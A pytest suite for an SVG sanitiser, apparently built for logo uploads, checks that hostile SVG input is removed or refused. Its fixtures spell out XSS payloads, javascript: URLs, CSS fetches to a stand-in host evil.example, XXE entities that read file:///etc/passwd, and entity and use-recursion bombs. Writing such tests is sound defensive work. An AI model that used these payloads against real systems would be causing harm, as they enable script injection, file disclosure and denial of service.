"""What hostile SVG files try, and what is left of it."""

import re
from pathlib import Path

import pytest

from association.images.formats import BadImage, Reason
from association.images.svg import sanitised_svg

NAMESPACES = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
CLEAN = '<svg viewBox="0 0 10 10" xmlns="http://www.w3.org/2000/svg">{}</svg>\n'
SHAPE = '<path d="M0 0h10v10z"/>'
CLEAN_SHAPE = '<path d="M0 0h10v10z" />'


def svg(inside: str, attributes: str = 'viewBox="0 0 10 10"') -> str:
    return f"<svg {NAMESPACES} {attributes}>{inside}</svg>"


def cleaned(inside: str) -> str:
    return sanitised_svg(svg(inside)).decode()


def refusal(source: str | bytes) -> Reason:
    with pytest.raises(BadImage) as refused:
        sanitised_svg(source)
    return refused.value.reason


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        '<script href="https://evil.example/x.js"/>',
        '<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
        '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"/></foreignObject>',
        "<image/>",
        '<feImage href="https://evil.example/pixel.png"/>',
        '<iframe src="https://evil.example"/>',
        '<set attributeName="onmouseover" to="alert(1)"/>',
        '<animate attributeName="href" values="javascript:alert(1)"/>',
        '<animateTransform attributeName="transform" type="rotate" dur="1s"/>',
        '<handler xmlns="http://www.w3.org/2001/xml-events">alert(1)</handler>',
        '<audio xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/a.mp3"/>',
        "<metadata>canary@example.org</metadata>",
        "<!-- canary --><?xml-stylesheet href='https://evil.example/x.css'?>",
        "<style>@import url(https://evil.example/x.css);</style>",
        "<style>path { fill: url(https://evil.example/x.svg#a) }</style>",
        "<style><![CDATA[ @font-face { font-family: x; src: url(//evil.example) } ]]></style>",
        '<x:path xmlns:x="https://evil.example/ns" d="M0 0"/>',
        "<desc>canary</desc>",
        "stray words",
    ],
)
def test_what_a_logo_does_not_need_is_removed(attack: str) -> None:
    """Elements by an allow-list: the shape beside them is all that stays."""
    assert CLEAN.format(CLEAN_SHAPE) == cleaned(SHAPE + attack)


@pytest.mark.parametrize(
    "attribute",
    [
        'onload="alert(1)"',
        'onclick="alert(1)"',
        'style="fill:url(https://evil.example/x)"',
        'style="background:url(https://evil.example/x)"',
        'style="behavior:url(#default)"',
        'fill="url(https://evil.example/x.svg#a)"',
        'fill="url(&quot;//evil.example/x.svg#a&quot;)"',
        'fill="URL(HTTPS://EVIL.EXAMPLE/)"',
        'fill="url(data:image/svg+xml,x)"',
        'fill="uurl(#a)rl(https://evil.example)"',
        'fill="u\\72l(https://evil.example)"',
        'mask="image-set(&quot;https://evil.example/x.png&quot; 1x)"',
        'filter="url(x.svg#f)"',
        'cursor="url(https://evil.example/x.cur), auto"',
        'marker-end="src(https://evil.example)"',
        'fill="expression(alert(1))"',
        'fill="var(--secret)"',
        'href="https://evil.example"',
        'xlink:href="#a"',
        'xml:base="https://evil.example/"',
        'src="https://evil.example"',
        'data-name="canary"',
        'class="canary"',
        'id="a b&lt;script&gt;"',
        'font-family="x; src: url(//evil.example)"',
        'aria-label="canary"',
        'xlink:title="canary"',
    ],
)
def test_an_attribute_that_could_reach_out_is_removed(attribute: str) -> None:
    """Attributes by an allow-list of names and of what their values may hold."""
    assert CLEAN.format(CLEAN_SHAPE) == cleaned(f'<path d="M0 0h10v10z" {attribute}/>')


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        " JaVaScRiPt:alert(1)",
        "java\nscript:alert(1)",
        "data:image/svg+xml,x",
        "https://evil.example/x.svg#a",
        "//evil.example#a",
        "other.svg#a",
        "",
    ],
)
def test_a_use_refers_to_its_own_drawing_only(address: str) -> None:
    """Any other address is removed, with one name for both spellings of href."""
    copies = f'<use xlink:href="{address}"/><use href="{address}"/>'

    assert CLEAN.format(CLEAN_SHAPE + "<use /><use />") == cleaned(SHAPE + copies)


def test_a_link_becomes_a_group() -> None:
    """The drawing inside it stays, its address does not."""
    expected = CLEAN.format(f"<g>{CLEAN_SHAPE}</g>")

    assert expected == cleaned(f'<a xlink:href="javascript:alert(1)">{SHAPE}</a>')


def test_words_in_a_title_stay_words() -> None:
    """Nothing that was escaped comes out as markup."""
    assert "<title>&lt;script&gt; &amp; co</title>" in cleaned(f"<title>&lt;script> &amp; co</title>{SHAPE}")


def test_billion_laughs_are_refused_at_once() -> None:
    """Before the first entity is expanded."""
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    bomb = f'<!DOCTYPE svg [<!ENTITY l0 "lol">{entities}]>{svg("<text>&l9;</text>")}'

    assert Reason.SVG_ENTITIES == refusal(bomb)


def test_a_long_entity_used_often_is_refused() -> None:
    """The quadratic blow-up: 100 times 200,000 letters, in a file of a few kilobytes more than one."""
    bomb = f'<!DOCTYPE svg [<!ENTITY a "{"a" * 200_000}">]>' + svg("<text>" + "&a;" * 100 + "</text>")

    assert Reason.SVG_ENTITIES == refusal(bomb)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_long_entity_is_refused_in_every_encoding(encoding: str) -> None:
    """As bytes, as a file is read."""
    bomb = f'<!DOCTYPE svg [<!ENTITY a "{"a" * 200_000}">]>' + svg("<text>" + "&a;" * 100 + "</text>")

    assert Reason.SVG_ENTITIES == refusal(bomb.encode(encoding))


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
        '<!DOCTYPE svg SYSTEM "file:///etc/passwd">',
        '<!DOCTYPE svg [<!ENTITY secret SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE svg [<!ENTITY % remote SYSTEM "https://evil.example/x.dtd"> %remote;]>',
        "<!DOCTYPE svg [<!ENTITY % own \"<!ENTITY late SYSTEM 'file:///etc/passwd'>\"> %own;]>",
        '<!DOCTYPE svg [<!ATTLIST path onload CDATA #FIXED "alert(1)">]>',
    ],
)
def test_a_document_type_is_passed_over(doctype: str) -> None:
    """No file is read for it, and what it adds is judged like what is written."""
    assert CLEAN.format(CLEAN_SHAPE) == sanitised_svg(doctype + svg(SHAPE)).decode()


@pytest.mark.parametrize("name", ["secret", "late"])
def test_what_stands_in_another_file_is_never_read(name: str, tmp_path: Path) -> None:
    """External entities (XXE), straight or by way of a parameter entity."""
    (tmp_path / "secret").write_text("canary")
    where = f"SYSTEM '{(tmp_path / 'secret').as_uri()}'"
    doctype = f'<!DOCTYPE svg [<!ENTITY secret {where}><!ENTITY % own "<!ENTITY late {where}>"> %own;]>'

    assert "canary" not in sanitised_svg(doctype + svg(f"<text>Bon&{name};jour</text>")).decode()


@pytest.mark.parametrize("address", ["https://evil.example/pixel.png", "//evil.example/x", "photo.png", "#a"])
def test_a_picture_in_another_file_is_refused(address: str) -> None:
    """A browser would not show it, and nobody would know why."""
    assert Reason.SVG_LINKED_IMAGE == refusal(svg(f'{SHAPE}<image href="{address}"/>'))


@pytest.mark.parametrize(
    "content",
    [
        "data:image/svg+xml;base64,PHN2Zy8+",
        "data:image/svg+xml,%3Csvg/%3E",
        "data:image/png;base64,AAAA",
        "data:image/png;base64,iVBORw0KGgoAAAAN",
        "data:image/png;base64,é",
        "data:,",
    ],
)
def test_a_picture_that_is_none_is_refused(content: str) -> None:
    """A drawing in the drawing, damaged pixels, nothing at all."""
    assert Reason.SVG_IMAGE == refusal(svg(f'{SHAPE}<image href="{content}"/>'))


def test_an_undeclared_entity_is_refused() -> None:
    """Not guessed at."""
    assert Reason.SVG_BROKEN == refusal(svg("<text>&nbsp;</text>"))


def test_shapes_that_multiply_by_use_are_refused() -> None:
    """Ten uses of ten uses of …: the same laughs without a document type."""
    groups = "".join(f'<g id="g{n}">' + f'<use href="#g{n - 1}"/>' * 10 + "</g>" for n in range(1, 10))
    bomb = svg(f'<g id="g0">{SHAPE}</g>{groups}<use href="#g9"/>')

    assert Reason.SVG_TOO_COMPLEX == refusal(bomb)


def test_patterns_that_multiply_are_refused() -> None:
    """Each filled with the one before."""
    patterns = "".join(
        f'<pattern id="p{n}">' + f'<path d="M0 0" fill="url(#p{n - 1})"/>' * 20 + "</pattern>"
        for n in range(1, 8)
    )

    assert Reason.SVG_TOO_COMPLEX == refusal(svg(patterns + '<path d="M0 0" fill="url(#p7)"/>'))


@pytest.mark.parametrize(
    "loop",
    [
        '<g id="a"><use href="#a"/></g>',
        '<use id="a" href="#b"/><use id="b" href="#a"/>',
        '<pattern id="a"><path d="M0 0" fill="url(#a)"/></pattern><path d="M0 0" fill="url(#a)"/>',
    ],
)
def test_a_part_that_contains_itself_is_refused(loop: str) -> None:
    """It would never be finished."""
    assert Reason.SVG_TOO_COMPLEX == refusal(svg(loop))


def test_endless_nesting_is_refused() -> None:
    """Without a RecursionError."""
    assert Reason.SVG_TOO_COMPLEX == refusal(svg("<g>" * 100_000))


def test_endless_elements_are_refused() -> None:
    """No logo has more than ten thousand."""
    assert Reason.SVG_TOO_COMPLEX == refusal(svg("<g/>" * 10_001))


def test_rules_that_fit_too_many_elements_are_refused() -> None:
    """A thousand rules for each of a thousand elements."""
    assert Reason.SVG_TOO_COMPLEX == refusal(
        svg("<style>" + "*{fill:red}" * 1000 + "</style>" + "<g/>" * 1000)
    )


@pytest.mark.parametrize(
    "style_sheet",
    ["a" * 300_000, "/*" * 200_000, "@" * 300_000, "@a{" * 100_000, "{" * 300_000, "}" * 300_000],
)
def test_a_malicious_style_sheet_comes_to_an_end(style_sheet: str) -> None:
    """Each expression reads it once."""
    source = svg(f"<style>{style_sheet}</style>{SHAPE}")

    assert sanitised_svg(source)


@pytest.mark.parametrize("attribute", ["viewBox", "width", "fill", "d", "transform", "style", "font-family"])
def test_a_malicious_attribute_comes_to_an_end(attribute: str) -> None:
    """A million digits, brackets or spaces."""
    for text in (
        "1" * 1_000_000,
        "url(" * 250_000,
        " " * 1_000_000,
        "url(#" + "a" * 1_000_000,
        "rotate(" * 140_000,
    ):
        source = svg(f'<svg {attribute}="{text}"/>{SHAPE}')

        assert sanitised_svg(source)


@pytest.mark.parametrize(
    "broken",
    [
        "",
        "hello",
        "<svg",
        svg(SHAPE)[:-1],
        svg("<g>"),
        svg('<use xlink:href="#a" xlink:href="#b"/>'),
        svg("<x:g/>"),
        svg(SHAPE) + "<svg/>",
        svg("<text>\x00</text>"),
        svg("<text>\ud800</text>"),
        svg(SHAPE).encode().replace(b"M0", b"\xff"),
        b'<?xml version="1.0" encoding="no-such"?>' + svg(SHAPE).encode(),
        svg(SHAPE).encode("utf-16")[:-1],
    ],
)
def test_broken_xml_is_refused(broken: str | bytes) -> None:
    """And nothing else is raised."""
    assert Reason.SVG_BROKEN == refusal(broken)


def test_broken_xml_is_refused_with_its_line() -> None:
    """So that the editor can look."""
    with pytest.raises(BadImage) as refused:
        sanitised_svg(svg("\n\n<g></h>"))

    assert 3 == refused.value.values["line"]


@pytest.mark.parametrize("root", ["html", "g", 'svg xmlns="https://other.example"'])
def test_another_root_is_refused(root: str) -> None:
    """Also an element called svg that is not the one of SVG."""
    assert Reason.SVG_ROOT == refusal(f"<{root}/>")


@pytest.mark.parametrize(
    "inside",
    [
        "",
        "<g><g/></g>",
        f"<defs>{SHAPE}</defs>",
        f'<symbol id="a">{SHAPE}</symbol>',
        f"<clipPath>{SHAPE}</clipPath>",
        "<image/>",
        '<use href="https://evil.example/x.svg#a"/>',
        "<script/>",
    ],
)
def test_a_drawing_of_nothing_is_refused(inside: str) -> None:
    """What only others refer to among them."""
    assert Reason.SVG_EMPTY == refusal(svg(inside))


def test_no_output_of_any_attack_mentions_the_attacker() -> None:
    """All at once, in one file."""
    attack = (
        f'<script>evil()</script><a href="javascript:evil()">{SHAPE}</a><style>*{{fill:url(//evil)}}</style>'
        '<use href="//evil#a"/><path onload="evil()" fill="url(//evil)" d="M0 0"/>'
    )

    assert [] == re.findall("evil", cleaned(attack))
